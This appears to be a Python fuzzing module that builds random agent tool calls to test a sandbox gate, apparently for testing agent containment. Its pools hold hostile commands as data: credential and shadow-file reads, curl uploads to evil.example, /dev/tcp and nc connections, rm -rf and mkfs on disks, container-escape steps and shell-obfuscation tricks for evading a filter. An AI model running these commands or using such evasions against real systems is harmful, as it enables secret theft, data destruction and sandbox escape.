"""Bytes to a sequence of tool calls, by the same rule as generator.py: every byte string is one, always the same.

A call is a template with words of small pools in it, sometimes disguised the way shells allow. Most are calls that an
agent could make; some are no calls at all, which the gate has to say.
"""

import shlex
from collections.abc import Callable, Mapping
from typing import Any, Final

import msgspec

from opensafe.proof.fuzzing.draw import Draw

from .arena import MOUNTED

#: Calls of a run.
LEAST: Final = 5
_MORE: Final = 2
#: Bytes that a run seldom needs more than.
BYTES: Final = 160
#: Of one call: what it starts and leaves running is ended then.
TIMEOUT_MS: Final = 2000

_PLACES: Final = """
    /workspace/a /workspace/a /workspace/b.txt /workspace/b.txt /workspace/d/e /workspace/d /workspace /tmp/x a ./b.txt
    ../etc/passwd /etc/passwd /etc/shadow /etc/hosts /root/.ssh/id_rsa /workspace/.env ~/.aws/credentials
    /proc/self/environ /proc/1/root/etc/passwd /proc/1/environ /proc/sysrq-trigger /sys/fs/cgroup /dev/mem /dev/sda
    /dev/shm/x /run/docker.sock /.opensafe/run /workspace/../../etc/shadow /workspace//./a {canary}/nonce
    {mounted}/nonce /proc/1/root{canary}/nonce {listener}
"""
_PATHS: Final = tuple(_PLACES.replace("{mounted}", MOUNTED).split())
_NAMES: Final = """
    docs.python.org nodejs.org evil.example x.readthedocs.io docs.python.org.evil.example localhost 169.254.169.254
    metadata.google.internal {sentinel} {other} 127.0.0.1 [::1] 2130706433 0x7f.1 10.0.0.1 xn--pypi-5qa.org 0.0.0.0
"""
_HOSTS: Final = tuple(_NAMES.split())
_WORDS: Final = (
    "x",
    "secret",
    "AKIAIOSFODNN7EXAMPLE",
    "-rf",
    "$(id)",
    "`id`",
    "a b",
    "*",
    "-----BEGIN PRIVATE KEY-----",
    "é",
)
_PROGRAMS: Final = (
    *(
        "id",
        "env",
        "uname -a",
        "ps aux",
        "mount",
        "sudo id",
        "su -c id",
        "unshare -r id",
        "nsenter -t 1 -m id",
        "dmesg",
    ),
    *(
        "chroot / id",
        "modprobe x",
        "insmod x",
        "sysctl -a",
        "iptables -F",
        "reboot",
        "mkfs.ext4 /dev/sda",
        "kill -9 -1",
    ),
    *("sleep 0.02", "git status", "make test", "python3 -c 'print(1)'", "crontab -l", "systemctl stop x", "docker ps"),
)
_SHELL: Final = (
    *("cat {path}", "ls -la {path}", "echo {word} > {path}", "cp {path} {path}", "ln -s {path} {path}; cat {path}"),
    *("head -c 64 {path} | od -c", "cd {path} && pwd", "rm -rf {path}", "find {path} -maxdepth 1", "mkdir -p {path}"),
    *("chmod 4755 {path}", "chown 0:0 {path}", "tar cf {path} {path}", "tee {path} < {path}", "stat {path}"),
    *(
        "curl -s http://{host}:{port}/",
        "curl --unix-socket {path} http://x/",
        "wget -qO- https://{host}/",
        "ping {host}",
    ),
    *("curl -s --data-binary @{path} https://{host}/", "git clone https://{host}/r.git", "nc -w1 {host} {port}"),
    *("exec 3<>/dev/tcp/{host}/{port}; echo x >&3", "echo {word} > /dev/udp/{host}/{port}", "scp {path} {host}:"),
    *("{program}", "{program} & {program}", "{program} | cat", "nohup sleep 30 & echo $!", "env -i {program}"),
    *(
        'eval "{program}"',
        "bash -c '{program}'",
        "echo {program} | sh",
        "xargs -n1 cat <<< {path}",
        "printf '%s' {word}",
    ),
    *("for i in 1 2 3; do cat {path}; done", "if test -e {path}; then {program}; fi", "trap '{program}' EXIT"),
    *(
        "python3 -c \"print(open('{path}').read())\"",
        "awk '{{print}}' {path}",
        "sed -i s/a/b/ {path}",
        "mknod {path} c 1 1",
    ),
    *("mount -t proc proc {path}", "mount --bind / {path}", "dd if={path} of={path} count=1", "LD_PRELOAD={path} id"),
    *("cat <({program})", "source {path}", "alias ls='{program}'; ls", "pip install {word}", "exec {program}"),
)
#: The same without a shell, which the words that only a shell has then are.
_ARGV: Final = tuple(tuple(shlex.split(text)) for text in _SHELL)
_DISGUISES: Final[tuple[Callable[[str], str], ...]] = (
    lambda text: text,
    lambda text: text,
    lambda text: text,
    lambda text: text[:1] + "''" + text[1:],
    lambda text: "\\" + text,
    lambda text: f"{{ {text}; }}",
    lambda text: f"({text})",
    lambda text: f"true && {text}",
    lambda text: f"X=1 {text}",
    lambda text: text.replace(" ", "${IFS}", 1),
    lambda text: f"# c\n{text}",
    lambda text: f"{text} 2>&1",
)
_ENVIRONMENTS: Final[tuple[Mapping[str, str], ...]] = (
    {},
    {"PATH": "/workspace"},
    {"LD_PRELOAD": "/workspace/a"},
    {"BASH_ENV": "/workspace/a"},
    {"A": "1"},
)
_USERS: Final = ("root", "nobody", "0", "nosuch")
_FILES: Final = ("Read", "List", "Stat", "Remove", "Mkdir", "Download", "Write", "Move")
_MALFORMED: Final[tuple[tuple[str, Mapping[str, Any]], ...]] = (
    ("Bash", {}),
    ("Bash", {"command": 7}),
    ("Bash", {"command": ""}),
    ("bash", {"command": "id"}),
    ("Exec", {"argv": []}),
    ("Exec", {"argv": ["id"], "cwd": "workspace"}),
    ("Read", {"path": "/workspace/a\0b"}),
    ("Read", {"path": "/workspace/a", "more": 1}),
    ("Write", {"path": "/workspace/a"}),
    ("Nothing", {"path": "/workspace"}),
)


class ToolCall(msgspec.Struct, frozen=True):
    """A call as a client sends it."""

    tool: str
    arguments: Mapping[str, Any]


def calls(data: bytes, places: Mapping[str, str]) -> tuple[ToolCall, ...]:
    """At least LEAST. places: what stands for the placeholders canary, listener, sentinel, other and port."""
    choices = Draw(data)
    return tuple(_call(choices, places) for _ in range(LEAST + choices.byte() % _MORE))


def reaching(places: Mapping[str, str]) -> tuple[ToolCall, ...]:
    """What every batch begins with: it reaches for all that the host watches, without finesse."""
    path, sentinel, port = places["canary"] + "/nonce", places["sentinel"], places["port"]
    dial = "import socket; socket.create_connection(('{}', {}), 1)"
    return (
        ToolCall("Read", {"path": path}),
        ToolCall("Bash", {"command": f"cat {path} /proc/1/root{path} {MOUNTED}/nonce", "timeout_ms": TIMEOUT_MS}),
        ToolCall("Exec", {"argv": ["python3", "-c", dial.format(sentinel, port)], "timeout_ms": TIMEOUT_MS}),
        ToolCall("Bash", {"command": f"echo > /dev/tcp/{sentinel}/{port}", "timeout_ms": TIMEOUT_MS}),
        ToolCall("Bash", {"command": f"curl -s http://{places['other']}:{port}/", "timeout_ms": TIMEOUT_MS}),
    )


def _call(choices: Draw, places: Mapping[str, str]) -> ToolCall:
    way = choices.byte()
    if way < 130:
        text = _SHELL[choices.byte() % len(_SHELL)]
        command = _DISGUISES[choices.byte() % len(_DISGUISES)](_filled(text, choices, places))
        return ToolCall("Bash", {"command": command, **_around(choices)})
    if way < 170:
        words = _ARGV[choices.byte() % len(_ARGV)]
        return ToolCall("Exec", {"argv": [_filled(word, choices, places) for word in words], **_around(choices)})
    if way < 245:
        return _file(_FILES[way % len(_FILES)], choices, places)
    tool, arguments = _MALFORMED[choices.byte() % len(_MALFORMED)]
    return ToolCall(tool, arguments)


def _file(tool: str, choices: Draw, places: Mapping[str, str]) -> ToolCall:
    path = _filled("{path}", choices, places)
    arguments: dict[str, Any] = {"path": path if choices.byte() % 8 else path.lstrip("/")}
    match tool:
        case "Write":
            arguments["content"] = _filled("{word}\n{word}", choices, places)
        case "Move":
            arguments["to"] = _filled("{path}", choices, places)
        case "Remove":
            arguments["recursive"] = choices.byte() % 2 == 0
        case "Mkdir":
            arguments["parents"] = True
    return ToolCall(tool, arguments)


def _around(choices: Draw) -> dict[str, Any]:
    """What a command may have beside it."""
    drawn = choices.byte()
    around: dict[str, Any] = {"timeout_ms": TIMEOUT_MS}
    if drawn % 8 == 0:
        around["env"] = _ENVIRONMENTS[drawn // 8 % len(_ENVIRONMENTS)]
    if drawn % 16 == 1:
        around["user"] = _USERS[drawn // 16 % len(_USERS)]
    if drawn % 16 == 2:
        around["cwd"] = "/tmp"  # noqa: S108 - the guest's
    return around


def _filled(text: str, choices: Draw, places: Mapping[str, str]) -> str:
    """Each placeholder by a word of its pool."""
    pools = {"{path}": _PATHS, "{host}": _HOSTS, "{word}": _WORDS, "{program}": _PROGRAMS}
    for name, pool in pools.items():
        while name in text:
            text = text.replace(name, pool[choices.byte() % len(pool)], 1)
    for name, value in places.items():
        text = text.replace(f"{{{name}}}", value)
    return text.replace("{{", "{").replace("}}", "}")
